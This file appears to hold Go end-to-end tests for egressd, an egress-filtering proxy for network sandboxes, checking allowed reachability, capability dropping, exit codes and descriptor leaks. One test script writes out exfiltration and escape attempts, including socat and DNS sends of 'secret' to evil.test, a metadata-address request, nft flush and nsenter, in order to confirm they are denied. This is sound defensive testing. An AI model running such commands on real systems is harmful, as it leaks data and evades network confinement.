package run

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/internal/lab"
	"github.com/egressd/egressd/record"
)

// enterPolicy takes networks in at a socket for all, and at one for each of two
// sandboxes.
const enterPolicy = `version: 1
listen: {open_to_network: true, proxy: ["` + lab.GatewayIPv4 + `:3128", "[` + lab.GatewayIPv6 + `]:3128"], enter: ["unix:${XDG_RUNTIME_DIR}/run/enter.sock"]}
allow: ["*.allowed.test", "db.allowed.test:5432"]
sandboxes:
  - {name: web, enter: "unix:${XDG_RUNTIME_DIR}/web/enter.sock"}
  - {name: narrow, enter: "unix:${XDG_RUNTIME_DIR}/narrow/enter.sock", allow: [b.allowed.test]}
  - {name: named, token_file: ci.token}
`

// bare drops every capability, also those that a program of root's would have again.
const bare = "setpriv --bounding-set=-all --inh-caps=-all --no-new-privs"

// A wayIn is a sandbox without network, in which a script is run.
type wayIn struct {
	says string
	argv []string
	mode string // that enter says
}

var waysIn = []wayIn{
	{"a network of its own", []string{"unshare", "-n"}, "transparent"},
	{"a user's network of its own", []string{"unshare", "-Urn"}, "transparent"},
	{"bwrap", []string{"bwrap", "--unshare-net", "--dev-bind", "/", "/"}, "transparent"},
	{"no capability", []string{"unshare", "-n", "sh", "-c", "ip link set lo up; exec " + bare + ` "$@"`, "sh"}, "proxy"},
	{"bwrap without capabilities", []string{"bwrap", "--unshare-net", "--dev-bind", "/", "/", "--cap-drop", "ALL"}, "proxy"},
}

func enter(t *testing.T, d *world.Daemon, w wayIn, socket, script string) *world.Result {
	t.Helper()
	return d.RunCommand(t, w.argv, "enter", "--socket", filepath.Join(d.Dir, socket, "enter.sock"), "--", "sh", "-c", script)
}

func TestEnterReachesWhatIsAllowedAndNothingElse(t *testing.T) {
	d := world.Start(t, enterPolicy)
	for _, w := range waysIn {
		t.Run(w.says, func(t *testing.T) {
			e := enter(t, d, w, "web", `curl -sS -m9 http://a.allowed.test/x; curl -sS -m9 --cacert lab.pem https://a.allowed.test/y`)
			if e.Code != 0 || strings.Count(e.Out, "origin") < 2 || !strings.Contains(e.Talk, w.mode) {
				t.Fatalf("exit %d, %q, %q", e.Code, e.Out, e.Talk)
			}
			wire, err := d.World.Wire.Mark()
			if err != nil {
				t.Fatal(err)
			}
			asked := d.World.Zone.Mark()
			e = enter(t, d, w, "web", `curl -sS -m9 http://evil.test/; curl -sS -m9 https://evil.test/;
curl -sS -m3 --noproxy '*' http://151.101.1.69/; curl -sS -m3 --noproxy '*' http://10.99.0.2:3128/; curl -sS -m3 --noproxy '*' http://169.254.169.254/
echo secret | socat -t1 - UDP:151.101.1.69:9999; dig +time=1 +tries=1 @8.8.8.8 secret.evil.test; dig +time=1 +tries=1 @127.0.0.1 secret.evil.test
ip link add x type veth peer name y; ip route add 1.2.3.4/32 dev lo; nft flush ruleset; nsenter -t 1 -n true; true`)
			if e.Code != 0 || !strings.Contains(e.Out, `"class":"default-deny"`) {
				t.Errorf("exit %d, %q, %q", e.Code, e.Out, e.Talk)
			}
			if n := world.CountDenials(e.Records, "web", "evil.test"); n != 2 {
				t.Errorf("%d records deny evil.test: %+v", n, e.Records)
			}
			if names := d.World.Zone.Since(asked); len(names) > 0 {
				t.Errorf("asked for %q", names)
			}
			packets, err := d.World.Wire.Since(wire)
			if err != nil || len(packets) > 0 {
				t.Errorf("sent %v, %v", packets, err)
			}
		})
	}
}

// TestEnterIsAllThatIsLeft looks at what the program is, after egressd.
func TestEnterIsAllThatIsLeft(t *testing.T) {
	d := world.Start(t, enterPolicy)
	for _, w := range waysIn {
		e := enter(t, d, w, "web", `grep -E '^(Cap...|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t'; exit 7`)
		if e.Code != 7 || !strings.Contains(e.Out, "NoNewPrivs:1\nSeccomp:2\n") || !gaveUp(e.Out) {
			t.Errorf("%s: exit %d, %q, %q", w.says, e.Code, e.Out, e.Talk)
		}
		var kinds []string
		world.Eventually(5*time.Second, func() bool {
			kinds = nil
			all, _ := d.Log.Since(0)
			for _, r := range all[len(all)-2:] {
				kinds = append(kinds, string(r.Kind)+" "+r.Sandbox)
			}
			return slices.Equal(kinds, []string{"start web", "stop web"})
		})
		if !slices.Equal(kinds, []string{"start web", "stop web"}) {
			t.Errorf("%s: the last records are %q", w.says, kinds)
		}
	}
}

// gaveUp reports whether none of the sets of capabilities in a status of /proc has
// one that administers or leaves a network.
func gaveUp(status string) bool {
	const netAdmin, netRaw, sysPtrace, sysAdmin = 1 << 12, 1 << 13, 1 << 19, 1 << 21
	seen := 0
	for line := range strings.Lines(status) {
		var set uint64
		if name, value, _ := strings.Cut(strings.TrimSpace(line), ":"); strings.HasPrefix(name, "Cap") {
			if _, err := fmt.Sscanf(value, "%x", &set); err != nil || set&(netAdmin|netRaw|sysPtrace|sysAdmin) != 0 {
				return name == "CapBnd" && err == nil && strings.Contains(status, "CapPrm:0000000000000000") // nobody may drop that without a capability
			}
			seen++
		}
	}
	return seen == 5
}

func TestEnterExitCodes(t *testing.T) {
	d := world.Start(t, enterPolicy)
	socket := filepath.Join(d.Dir, "web", "enter.sock")
	for _, row := range []struct {
		says   string
		before []string
		argv   []string
		code   int
		talk   string
	}{
		{"no such program", waysIn[0].argv, []string{"enter", "--socket", socket, "--", "no-such-program"}, 127, "no-such-program"},
		{"no program", waysIn[0].argv, []string{"enter", "--socket", socket, "--", "/etc"}, 126, "/etc"},
		{"a network with a way out", nil, []string{"enter", "--socket", socket, "--", "true"}, 125, "gw"},
		{"nobody at the socket", waysIn[0].argv, []string{"enter", "--socket", d.Dir + "/none", "--", "true"}, 125, d.Dir + "/none"},
		{"a socket of something else", waysIn[0].argv, []string{"enter", "--socket", d.Config, "--", "true"}, 125, d.Config},
		{"a shared socket, by nobody that is listed", waysIn[0].argv, []string{"enter", "--socket", filepath.Join(d.Dir, "run", "enter.sock"), "--", "true"}, 125, "unknown sandbox"},
		{"a shared socket, by who says it is somebody", waysIn[0].argv, []string{"enter", "--name", "web", "--socket", filepath.Join(d.Dir, "run", "enter.sock"), "--", "true"}, 125, "unknown sandbox"},
		{"another's name at a socket of its own", waysIn[0].argv, []string{"enter", "--name", "narrow", "--socket", socket, "--", "true"}, 125, "unknown sandbox"},
		{"a name that is none", waysIn[0].argv, []string{"enter", "--name", "a b", "--socket", socket, "--", "true"}, 125, "a b"},
	} {
		t.Run(row.says, func(t *testing.T) {
			e := d.RunCommand(t, row.before, row.argv...)
			if e.Code != row.code || !strings.Contains(e.Talk, row.talk) || !strings.Contains(e.Talk, "egressd: hint: ") {
				t.Errorf("exit %d, %q", e.Code, e.Talk)
			}
		})
	}
}

// TestEnterTwoSandboxesAtATime attaches two networks that may reach different
// hosts.
func TestEnterTwoSandboxesAtATime(t *testing.T) {
	d := world.Start(t, enterPolicy)
	mark, err := d.Log.Mark()
	if err != nil {
		t.Fatal(err)
	}
	type result struct {
		name string
		out  string
		err  error
	}
	results := make(chan result)
	const script = `for n in 1 2 3; do for h in a b; do echo "$h $(curl -sS -m9 http://$h.allowed.test/)"; done; done`
	for i, name := range []string{"web", "narrow"} {
		go func() {
			cmd := d.Command(t.Context(), waysIn[i].argv, "enter", "-q", "--socket", filepath.Join(d.Dir, name, "enter.sock"), "--", "sh", "-c", script)
			var out bytes.Buffer
			cmd.Stdout = &out
			err := d.World.Gateway.Start(cmd)
			if err == nil {
				err = cmd.Wait()
			}
			results <- result{name, out.String(), err}
		}()
	}
	for range 2 {
		r := <-results
		if r.err != nil {
			t.Fatal(r.name, r.err)
		}
		want := map[string]int{"web a": 3, "web b": 3, "narrow a": 0, "narrow b": 3}
		for _, host := range []string{"a", "b"} {
			if n := strings.Count(r.out, host+" origin"); n != want[r.name+" "+host] {
				t.Errorf("%s reached %s.allowed.test %d times: %q", r.name, host, n, r.out)
			}
		}
	}
	records, err := d.Log.Since(mark)
	if err != nil {
		t.Fatal(err)
	}
	if n := world.CountDenials(records, "narrow", "a.allowed.test"); n != 3 {
		t.Errorf("%d records deny narrow a.allowed.test", n)
	}
	if n := world.CountDenials(records, "web", "a.allowed.test"); n != 0 {
		t.Errorf("%d records deny web a.allowed.test", n)
	}
}

// TestEnterLeavesNothing hands many networks in, one after the other.
func TestEnterLeavesNothing(t *testing.T) {
	times := 40
	if text := os.Getenv("EGRESSD_E2E_ENTERS"); text != "" {
		if _, err := fmt.Sscan(text, &times); err != nil {
			t.Fatal(err)
		}
	}
	d := world.Start(t, enterPolicy)
	enter(t, d, waysIn[0], "web", `curl -sS -m9 http://a.allowed.test/; curl -sS http://evil.test/`)
	settled := func() (n int) {
		world.Eventually(5*time.Second, func() bool {
			before := n
			n = d.Descriptors()
			time.Sleep(50 * time.Millisecond)
			return n == before
		})
		return n
	}
	before := settled()
	e := d.RunCommand(t, []string{"sh", "-c", `for i in $(seq ` + fmt.Sprint(times) + `); do unshare -n "$@" || exit 1; done`, "sh"},
		"enter", "-q", "--socket", filepath.Join(d.Dir, "web", "enter.sock"), "--", "curl", "-sS", "-m9", "-o", "/dev/null", "http://a.allowed.test/")
	n := 0
	for _, r := range e.Records {
		if r.Kind == record.KindRequest && r.Sandbox == "web" && r.Dst.Host == "a.allowed.test" {
			n++
		}
	}
	if e.Code != 0 || n != times {
		t.Fatalf("exit %d, %d of %d records, %q", e.Code, n, times, e.Talk)
	}
	if after := settled(); after > before+4 {
		t.Errorf("%d descriptors are open after %d networks, %d before", after, times, before)
	}
}
